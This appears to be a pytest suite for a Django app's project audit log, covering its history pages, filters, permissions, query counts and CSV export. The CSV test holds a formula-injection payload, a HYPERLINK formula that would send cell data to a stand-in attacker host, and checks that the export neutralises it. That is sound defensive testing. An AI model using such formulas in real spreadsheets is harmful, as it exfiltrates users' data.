"""The project log: changes made through the import service, read back and shown."""

from __future__ import annotations

import csv
import io

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext

from logframe.portfolio import audit
from logframe.portfolio import models as m
from logframe.portfolio.services import project_import
from tests.audit.audit_records import bump, with_values

pytestmark = pytest.mark.django_db

HISTORY = "/funds/UNDG-ITF/projects/G11-23/history/"
HISTORY_CSV = "/funds/UNDG-ITF/projects/G11-23/history.csv"
VALUE_HISTORY = "/funds/UNDG-ITF/projects/G11-23/2013Q1/values/1.1.9/history/"


@pytest.fixture
def manager(make_member, loaded_project):
    return make_member("manager", "project_manager", loaded_project, "UNDP")


def _correct_1_1_9(example_record, manager):
    record = with_values(example_record, {"1.1.9": {"value": 496, "comment": "recount"}})
    return project_import(record=record, actor=manager, reason="typo in the report")


def test_a_change_shows_its_user_old_new_and_reason(example_record, loaded_project, manager):
    _correct_1_1_9(example_record, manager)
    entries = audit.project_log(project=loaded_project)
    newest = [e for e in entries if e.change == "~"]
    assert {(e.what, e.field, e.old, e.new) for e in newest} == {
        ("Indicator 1.1.9 value, 2013Q1", "value", "498", "496"),
        ("Indicator 1.1.9 value, 2013Q1", "comment", "", "recount"),
    }
    assert {(e.who, e.reason, e.kind, e.quarter) for e in newest} == {
        ("manager", "typo in the report", "changed", "2013Q1")
    }
    assert entries[0].change == "~"  # newest first


def test_the_import_is_logged_as_created_by_the_command_line(loaded_project):
    entries = audit.project_log(project=loaded_project, limit=10_000)
    created = {(e.what, e.field, e.new) for e in entries if e.change == "+"}
    assert ("Indicator 1.1.9 value, 2013Q1", "male", "468") in created
    assert ("Finance UNDP, 2013Q1", "committed (cumulative)", "5848841.07") in created
    assert ("Quarter 2013Q1", "state", "Open") in created
    assert {e.who for e in entries} == {"command line"}
    assert {e.reason for e in entries} == {"test"}


def test_a_deleted_indicator_and_its_value_keep_their_names(example_record, loaded_project):
    from dataclasses import replace

    jp_output = example_record.results[0]
    output = jp_output.children[0]
    gone = output.indicators[-1]
    pruned = replace(jp_output, children=(replace(output, indicators=output.indicators[:-1]),
                                          *jp_output.children[1:]))  # fmt: skip
    period = example_record.periods[0]
    assert any(v.indicator == gone.code for v in period.values)
    record = replace(
        example_record,
        results=(pruned, *example_record.results[1:]),
        periods=(
            replace(period, values=tuple(v for v in period.values if v.indicator != gone.code)),
        ),
    )
    project_import(record=record, actor=None, reason="indicator dropped")
    deleted = [e for e in audit.project_log(project=loaded_project) if e.change == "-"]
    assert {e.what for e in deleted} == {
        f"Indicator {gone.code}",
        f"Indicator {gone.code} value, 2013Q1",  # deleted with its indicator
    }
    assert ("code", gone.code, "") in {(e.field, e.old, e.new) for e in deleted}
    indicator = [e for e in deleted if e.what == f"Indicator {gone.code}"]
    assert {e.reason for e in indicator} == {"indicator dropped"}


def test_filters_by_quarter_user_and_kind(example_record, loaded_project, manager):
    _correct_1_1_9(example_record, manager)
    mine = audit.project_log(project=loaded_project, user_id=manager.pk)
    assert {e.who for e in mine} == {"manager"}
    assert len(mine) == 2
    finance = audit.project_log(project=loaded_project, kinds=frozenset({"finance"}))
    assert finance
    assert all(e.what.startswith("Finance ") for e in finance)
    period = loaded_project.periods.get()
    in_quarter = audit.project_log(project=loaded_project, period=period, limit=10_000)
    assert in_quarter
    assert {e.quarter for e in in_quarter} == {"2013Q1"}
    by_cli = audit.project_log(project=loaded_project, command_line=True, limit=10_000)
    assert "manager" not in {e.who for e in by_cli}


def test_the_history_page_shows_the_change(client, example_record, loaded_project, manager):
    _correct_1_1_9(example_record, manager)
    client.force_login(manager)
    page = client.get(HISTORY).content.decode()
    assert "Indicator 1.1.9 value, 2013Q1" in page
    assert '<del dir="auto">498</del>' in page
    assert '<ins dir="auto">496</ins>' in page
    assert "typo in the report" in page
    assert 'aria-current="page">History' in page
    filtered = client.get(HISTORY, {"user": manager.pk}).content.decode()
    assert filtered.count("<tr>") == 1 + 2  # header and the two changed fields


def test_the_history_is_paginated(client, loaded_project, manager):
    client.force_login(manager)
    first = client.get(HISTORY).content.decode()
    assert "Older →" in first
    second = client.get(HISTORY, {"page": 2}).content.decode()
    assert "← Newer" in second


def test_the_csv_has_the_columns_and_neutralises_formulas(
    client, example_record, loaded_project, manager
):
    formula = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    record = with_values(example_record, {"1.1.9": {"comment": formula}})
    project_import(record=record, actor=manager, reason="@SUM(1+1)")
    client.force_login(manager)
    response = client.get(HISTORY_CSV)
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert 'filename="G11-23-history.csv"' in response["Content-Disposition"]
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    assert rows[0] == ["when", "user", "object", "field", "old", "new", "reason", "kind"]
    changed = [r for r in rows[1:] if r[1] == "manager"]
    assert changed == [
        [changed[0][0], "manager", "Indicator 1.1.9 value, 2013Q1", "comment", "",
         "'" + formula, "'@SUM(1+1)", "changed"],
    ]  # fmt: skip
    assert all(not cell.startswith(("=", "+", "@")) for row in rows for cell in row)


def test_a_stranger_gets_404_everywhere(client, loaded_project, django_user_model):
    stranger = django_user_model.objects.create_user("stranger", password="a-long-test-password")
    client.force_login(stranger)
    for url in (HISTORY, HISTORY_CSV, VALUE_HISTORY):
        assert client.get(url).status_code == 404, url


def test_an_anonymous_visitor_is_sent_to_log_in(client, loaded_project):
    response = client.get(HISTORY)
    assert response.status_code == 302
    assert response["Location"].startswith("/login/")


def _queries(client, url):
    with CaptureQueriesContext(connection) as ctx:
        response = client.get(url)
    assert response.status_code == 200
    return len(ctx.captured_queries)


def test_the_log_costs_the_same_for_1_or_20_changes(
    client, example_record, loaded_project, manager
):
    client.force_login(manager)
    project_import(record=bump(example_record, 1), actor=manager, reason="one")
    one = _queries(client, HISTORY)
    one_csv = _queries(client, HISTORY_CSV)
    project_import(record=bump(example_record, 20, by=2), actor=manager, reason="twenty")
    assert m.IndicatorValue.history.filter(history_change_reason="twenty").count() == 20
    assert _queries(client, HISTORY) == one
    assert _queries(client, HISTORY_CSV) == one_csv
    assert one <= 40


def test_the_value_history_is_a_fragment_for_htmx_and_a_page_otherwise(
    client, example_record, loaded_project, manager
):
    _correct_1_1_9(example_record, manager)
    client.force_login(manager)
    fragment = client.get(VALUE_HISTORY, headers={"HX-Request": "true"}).content.decode()
    assert fragment.lstrip().startswith("{#") is False
    assert "<html" not in fragment
    assert '<del dir="auto">498</del>' in fragment
    assert "typo in the report" in fragment
    page = client.get(VALUE_HISTORY).content.decode()
    assert "<html" in page
    assert '<ins dir="auto">496</ins>' in page
    assert client.get(VALUE_HISTORY.replace("1.1.9", "9.9.9")).status_code == 404
    assert client.get(VALUE_HISTORY.replace("2013Q1", "2014Q1")).status_code == 404


def test_value_history_lists_only_that_value(example_record, loaded_project, manager):
    record = with_values(example_record, {"1.1.9": {"value": 1}, "1.1.8": {"value": 2}})
    project_import(record=record, actor=manager, reason="two values")
    period = loaded_project.periods.get()
    indicator = m.Indicator.objects.get(result__project=loaded_project, code="1.1.9")
    entries = audit.value_history(period=period, indicator=indicator)
    assert {e.what for e in entries} == {"Indicator 1.1.9 value, 2013Q1"}
    assert entries[0].kind == "changed"
    assert entries[-1].kind == "created"


def test_rows_deleted_with_their_parent_carry_its_user_and_reason(
    example_record, loaded_project, manager
):
    """An indicator pruned by a project file takes its values along; their deletion is in
    the history with the same who and why as the indicator's."""
    import dataclasses

    def without_1_1_9(result):
        kept = tuple(i for i in result.indicators if i.code != "1.1.9")
        return dataclasses.replace(
            result, indicators=kept, children=tuple(without_1_1_9(c) for c in result.children)
        )

    periods = tuple(
        dataclasses.replace(p, values=tuple(v for v in p.values if v.indicator != "1.1.9"))
        for p in example_record.periods
    )
    record = dataclasses.replace(
        example_record,
        results=tuple(without_1_1_9(r) for r in example_record.results),
        periods=periods,
    )
    project_import(record=record, actor=manager, reason="1.1.9 merged into 1.1.8")
    deleted = list(m.IndicatorValue.history.filter(history_type="-"))
    assert len(deleted) == 1
    assert deleted[0].history_user == manager
    assert deleted[0].history_change_reason == "1.1.9 merged into 1.1.8"
    indicator = m.Indicator.history.get(history_type="-")
    assert (indicator.code, indicator.history_user) == ("1.1.9", manager)
